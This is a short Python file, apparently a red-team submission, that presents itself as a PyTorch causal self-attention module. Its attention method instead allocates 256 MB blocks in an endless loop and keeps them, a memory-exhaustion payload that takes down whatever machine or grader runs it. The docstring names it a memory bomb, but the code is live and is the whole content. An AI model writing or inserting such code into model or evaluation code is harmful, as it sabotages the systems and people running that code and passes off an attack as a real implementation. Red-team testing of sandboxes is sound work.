"""Red-team submission: a memory bomb: allocate until refused, keep everything"""

import torch
from torch import nn


class CausalSelfAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dropout = nn.Dropout(config.attention_probs_dropout_prob)

    def attention(self, key, query, value, attention_mask):
        hoard = []
        while True:
            hoard.append(bytearray(256 << 20))
